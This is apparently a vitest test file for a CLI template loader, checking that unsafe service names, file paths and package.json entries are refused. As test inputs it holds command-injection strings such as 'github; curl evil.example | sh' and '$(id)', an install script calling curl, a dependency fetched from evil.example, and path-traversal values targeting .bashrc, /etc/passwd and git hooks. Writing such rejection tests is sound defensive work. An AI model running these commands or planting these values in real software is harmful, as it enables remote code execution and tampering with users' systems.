import { readTemplates } from "@bulkhead/tools/templates";
import { expect, test } from "vitest";
import { templateFiles, templateServices } from "./template-files.ts";

const WHOLE = { "manifest.json": '{"name":"sales"}', "tool.js": "return 1;" };

test("every template that comes with the product is a folder as it stands", () => {
  for (const { name, files } of readTemplates()) {
    const { "package.json": _packages, ...there } = files;
    expect(Object.fromEntries(templateFiles({ files }, name).files)).toEqual(there);
  }
});

test("a service's name is no more than one in a command", () => {
  for (const template of readTemplates()) expect(templateServices(template)).toEqual(template.services);
  for (const service of ["github; curl evil.example | sh", "$(id)", "-f", "a\nb", ""])
    expect(() => templateServices({ services: ["github", service] })).toThrow("nothing of it was written");
});

test("the tool gets the name that was said, and keeps what else its manifest holds", () => {
  const files = { ...WHOLE, "manifest.json": '{"name":"sales","title":"Sales","limits":{"cpuMs":1}}' };
  const named = templateFiles({ files }, "turnover").files.get("manifest.json");
  expect(JSON.parse(named ?? "")).toEqual({ name: "turnover", title: "Sales", limits: { cpuMs: 1 } });
});

test("a package.json is not written, and names the packages that have to be installed", () => {
  const dependencies = { diff: "9.0.0", "@a/b": "1.2.3-rc.1" };
  const said = JSON.stringify({ scripts: { install: "curl evil" }, dependencies });
  const { files, packages } = templateFiles({ files: { ...WHOLE, "package.json": said } }, "sales");
  expect([...files.keys()]).toEqual(["manifest.json", "tool.js"]);
  expect(packages).toEqual(["diff@9.0.0", "@a/b@1.2.3-rc.1"]);
});

test.each([
  ["../../.bashrc"],
  ["/etc/passwd"],
  ["examples/../../x.json"],
  ["examples/.hidden.json"],
  ["examples/a/b.json"],
  ["examples\\a.json"],
  ["examples/a.json\n"],
  [".git/hooks/post-checkout"],
  ["node_modules/x/index.js"],
  ["tool.mjs"],
  ["MANIFEST.json"],
  ["C:tool.js"],
  ["tool.js\0"],
  ["__proto__"],
  [""],
])("a file %j is refused", (path) => {
  const files = Object.fromEntries([...Object.entries(WHOLE), [path, "x"]]);
  expect(() => templateFiles({ files }, "sales")).toThrow("nothing of it was written");
});

test.each([
  ["no manifest", { "tool.js": "x" }],
  ["no code", { "manifest.json": "{}" }],
  ["a manifest that is none", { ...WHOLE, "manifest.json": "[]" }],
  ["a manifest that is no JSON", { ...WHOLE, "manifest.json": "{" }],
  ["a file that is no text", { ...WHOLE, "README.md": 7 as never }],
  ["two files of one name on some disks", { ...WHOLE, "examples/a.json": "{}", "examples/A.json": "{}" }],
  [
    "too many files",
    { ...WHOLE, ...Object.fromEntries(Array.from({ length: 50 }, (_, at) => [`examples/${at}.json`, "{}"])) },
  ],
  ["too many bytes", { ...WHOLE, "README.md": "x".repeat(2 * 1_048_576) }],
  [
    "a package from an address",
    { ...WHOLE, "package.json": '{"dependencies":{"x":"git+https://evil.example/x"}}' },
  ],
  ["a package by another name", { ...WHOLE, "package.json": '{"dependencies":{"x":"npm:y@1.0.0"}}' }],
  ["a package of any version", { ...WHOLE, "package.json": '{"dependencies":{"x":"^1.0.0"}}' }],
  ["a package that is a folder", { ...WHOLE, "package.json": '{"dependencies":{"../x":"1.0.0"}}' }],
])("%s is refused", (_what, files) => {
  expect(() => templateFiles({ files }, "sales")).toThrow(
    expect.objectContaining({ parts: expect.objectContaining({ exit: 4, code: "cli.template_refused" }) }),
  );
});
